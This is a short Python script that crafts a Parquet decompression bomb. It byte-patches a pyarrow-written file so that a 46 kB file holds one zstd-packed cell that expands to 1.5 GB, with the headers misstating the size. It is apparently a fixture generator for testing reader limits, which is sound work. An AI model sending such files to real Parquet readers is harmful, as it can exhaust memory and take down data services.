"""Make a Parquet file of 46 kB with one cell of 1.5 GB, whose footer says nothing of it."""

import io

import pyarrow
import pyarrow.parquet

SIZE = 1_500_000_000
_BLOCK = 128 * 1024  # the most bytes of a zstd block


def bomb(size: int = SIZE) -> bytes:
    """Write a plain cell, then put a packed one in its place: the footer still tells the size of the first."""
    frame = _repeated(size)
    # The page's header grows with the number it tells; its page is as much shorter, and all other places stay.
    growth = len(_number(size)) - len(_number(len(frame)))
    text = "a" * (len(frame) + growth - 4)  # behind the four bytes of its length
    schema = pyarrow.schema([pyarrow.field("text", pyarrow.string(), nullable=False)])
    buffer, plain = io.BytesIO(), {"use_dictionary": False, "write_statistics": False, "store_schema": False}
    table = pyarrow.table({"text": [text]}, schema=schema)
    pyarrow.parquet.write_table(table, buffer, compression="none", **plain)
    raw, body = buffer.getvalue(), _number(len(frame) + growth)
    head, place = b"\x15\x00\x15" + body + b"\x15" + body, buffer.getvalue().index(text.encode()) - 4
    assert raw[4:].startswith(head) and raw.count(b"\x04text\x15\x00") == 1
    told = b"\x15\x00\x15" + _number(size) + b"\x15" + _number(len(frame))
    footer = raw[place + 4 + len(text) :].replace(b"\x04text\x15\x00", b"\x04text\x15\x0c")  # packed by zstd
    return raw[:4] + told + raw[4 + len(head) : place] + frame + footer


def _repeated(size: int) -> bytes:
    """Pack equal bytes by zstd (RFC 8878), in blocks that each hold one byte and how often it stands there."""
    full, rest = divmod(size, _BLOCK)
    assert rest
    blocks = [(2 | _BLOCK << 3).to_bytes(3, "little") + b"a"] * full
    last = (3 | rest << 3).to_bytes(3, "little") + b"a"
    return b"\x28\xb5\x2f\xfd\xa0" + size.to_bytes(4, "little") + b"".join(blocks) + last


def _number(value: int) -> bytes:
    """Write a positive number as Thrift's compact protocol does."""
    value, written = value << 1, bytearray()
    while value >= 0x80:
        written.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*written, value])
